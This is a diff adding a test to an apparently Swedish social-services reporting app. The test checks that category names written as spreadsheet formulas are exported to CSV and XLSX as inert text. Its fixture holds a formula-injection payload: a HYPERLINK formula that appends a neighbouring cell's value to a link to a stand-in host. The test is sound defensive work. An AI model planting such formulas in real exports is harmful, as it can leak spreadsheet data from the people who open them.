@@ -214,3 +214,20 @@ def test_finsam_reconciliation_for_the_projektledare_only(facit, login, client):
     rader = _csv(pl.get(f"/rapporter/team/{facit.team.id}/finsam.csv"))
     assert rader[0][:4] == ["Referens", "Personnummer", "Kön", "Födelseår"] and len(rader) == 8
     assert "finsam.export" in set(db.session.scalars(select(AuditEntry.handling)))
+
+
+def test_a_formula_typed_as_a_name_stays_text_in_csv_and_xlsx(facit, login):
+    # Issue 18 point 4: an insats type named like a formula must not run in Excel.
+    from samverkan.insatser.models import Insatstyp
+
+    namn = '=HYPERLINK("http://example.org/"&B2,"Klicka")'
+    db.session.add(Insatstyp(forbund_id=facit.forbund.id, kod="formel", namn=namn, ordning=99))
+    db.session.add(Insatstyp(forbund_id=facit.forbund.id, kod="plus", namn="+1 och @summa", ordning=100))
+    db.session.commit()
+    client = login(facit.users["projektledare"])
+    rader = _csv(client.get(f"/rapporter/period/export.csv?tabell=insatstyp&{Q1}"))
+    etiketter = [r[0] for r in rader]
+    assert "'" + namn in etiketter and "'+1 och @summa" in etiketter and namn not in etiketter
+    wb = load_workbook(io.BytesIO(client.get(f"/rapporter/period/export.xlsx?{Q1}").get_data()))
+    celler = [c for rad in wb["Insatstyp efter kön"].iter_rows() for c in rad if c.value == namn]
+    assert celler and all(c.data_type == "s" for c in celler)
